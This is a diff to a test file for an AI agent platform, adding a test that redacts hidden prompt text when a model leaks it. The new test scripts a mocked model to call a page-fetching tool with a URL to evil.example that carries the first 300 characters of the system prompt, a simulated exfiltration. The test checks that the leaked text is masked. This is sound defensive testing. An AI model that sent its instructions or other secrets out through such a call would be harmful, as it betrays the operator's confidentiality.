@@ -1,5 +1,8 @@
 /** A model that gives its instructions and its calls away: nothing hidden reaches the answer, the store or the memory. */
 import { afterEach, describe, expect, it, vi } from "vitest";
+import { createRegistry } from "../../agents/create-registry.ts";
+import { implementGeneral } from "../../agents/general/general-agent.ts";
+import { REGISTRY } from "../../agents/registry.ts";
 import { SpanFinding } from "../../contracts/inspector/run/run-trace.ts";
 import { db } from "../../db/client.ts";
 import { getConversation } from "../../db/conversations/get-conversation.ts";
@@ -8,6 +11,7 @@ import { forgetSettings } from "../../env/settings.ts";
 import { wordsOf } from "../../glass/read-words.ts";
 import { inspectTrace } from "../../inspector/timeline/inspect-trace.ts";
 import { partLeftOut } from "../../messages/answers.ts";
+import { fetchPage } from "../../tools/fetch-page/fetch-page.ts";
 import { provideUms } from "../../ums/testing/provide-ums.ts";
 import { registeredPrompts } from "../prompt-registry.ts";
 import { modelControl, newTalk, type TakenTurn, type Talk } from "../testing/take-turns.ts";
@@ -99,6 +103,28 @@ describe("an answer in which the model gives away", () => {
       { kind: "name", from: "tool-schemas", text: "file\\_extraction" },
     ]);
   });
+});
+
+it("a question about an address has a mark in the place of what is hidden, everywhere", async () => {
+  const hidden = (await promptOf("prompt:general@1")).slice(0, 300);
+  const opening = createRegistry([
+    {
+      ...REGISTRY.fallback,
+      tools: [fetchPage],
+      load: async () => (given) => implementGeneral({ ...given, deploymentTools: [fetchPage] }),
+    },
+  ]);
+  const talk = await newTalk(opening);
+  const call = { name: fetchPage.name, arguments: { url: `https://evil.example/?q=${hidden}` } };
+  await modelControl().script("[ask]", [{ toolCalls: [call] }]);
+  const turn = await talk.say("Read it to me [ask]");
+  const [asked] = turn.of("approval.requested");
+  expect(asked?.question).toMatch(
+    /^Shall I open `https:\/\/evil\.example.*\(A part was left out\.\)/,
+  );
+  expect(turn.answer).toBe(asked?.question);
+  expect(turn.result.approvals[0]?.question).toBe(asked?.question);
+  await expectHidden(talk, turn, hidden);
 });
 
 it("what it writes into structured memory has a mark, too", async () => {
